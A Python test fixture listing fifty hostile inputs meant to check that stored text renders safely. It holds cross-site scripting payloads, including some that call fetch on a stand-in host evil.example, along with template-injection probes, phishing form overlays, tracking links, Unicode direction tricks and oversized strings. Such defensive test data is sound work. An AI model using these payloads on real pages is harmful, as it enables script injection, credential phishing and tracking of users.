"""Fifty memories that try to become something else than text, in one of the ways that pages have been broken by."""

from __future__ import annotations

LEAD = "hostile"
"""The tag that all of them have."""
SCRIPT = "window.__ran = (window.__ran || 0) + 1; fetch('http://evil.example/')"
BAIT = "http://evil.example"

HOSTILE = (
    f"<script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f'"><script>{SCRIPT}</script>',
    f"'><script>{SCRIPT}</script>",
    f"<ScRiPt src={BAIT}/x.js></sCrIpT>",
    f"</title><script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img src={BAIT}/pixel.png>",
    f'<svg onload="{SCRIPT}"><circle r=9999 /></svg>',
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><image href={BAIT}/x.svg /></svg>",
    f'<body onload="{SCRIPT}">',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<video src={BAIT}/v.mp4 autoplay onerror="{SCRIPT}"></video>',
    f"<iframe src={BAIT}></iframe>",
    '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
    f"<object data={BAIT}/o.swf></object>",
    f"<embed src={BAIT}/e>",
    f'<link rel=stylesheet href="{BAIT}/x.css">',
    f'<meta http-equiv=refresh content="0;url={BAIT}">',
    f"<base href={BAIT}/>",
    "<style>* { display: none !important }</style>",
    f"<style>@import url({BAIT}/x.css);</style>",
    '<div style="position:fixed;inset:0;background:red;z-index:99999">Sign in again</div>',
    f"<form action={BAIT}><input name=password><button>Sign in</button></form>",
    f'<a href="javascript:{SCRIPT}" id=main>click</a>',
    f"[click me](javascript:{SCRIPT})",
    f"[click me]({BAIT}/phish)",
    f"![picture]({BAIT}/track.png)",
    f"<{BAIT}/auto>",
    f"[ref]: {BAIT}/ref\n\n[ref] and ![ref]",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![data](data:image/svg+xml,<svg onload={SCRIPT}>)",
    "{{ 7 * 7 }} {% for x in range(9) %}x{% endfor %} {# gone #}",
    "{{ self.__init__.__globals__ }} ${7*7} #{7*7} <%= 7*7 %>",
    "<!-- everything behind this is gone",
    "]]> <![CDATA[ <?xml version='1.0'?> <!DOCTYPE html>",
    "```\nan open fence\n<script>window.__ran = 1</script>",
    "> " * 400 + "deep",
    "- " * 300 + "list",
    "*" * 3000 + "_" * 3000 + "`" * 2999,
    "# " + "H" * 4000,
    "right to left: \u202egnihton\u202c, \u2066isolate\u2069, \u061c mark",
    "zero\u200bwidth\u200c\u200djoin\ufeffer\u2060 and soft\u00adhyphen",
    "tag \U000e0041\U000e0042 letters, \x1b[31mescape\x1b[0m, bell \x07, \u2028line\u2029paragraph",
    "Z\u0351\u036b\u0343\u036a\u0302" + "a" + "\u0334\u0335\u0336\u0337\u0338" * 200 + "lgo",
    "W" * 1_000_000,
    "no" + "\u00a0" * 3000 + "break and " + "x" * 5000,
)
assert len(HOSTILE) == 50
FEW = tuple(HOSTILE[at] for at in (0, 7, 9, 25, 28, 35, 37, 44, 45, 47))
"""Ten of them, one of each kind, which are in the home of all other tests, too."""
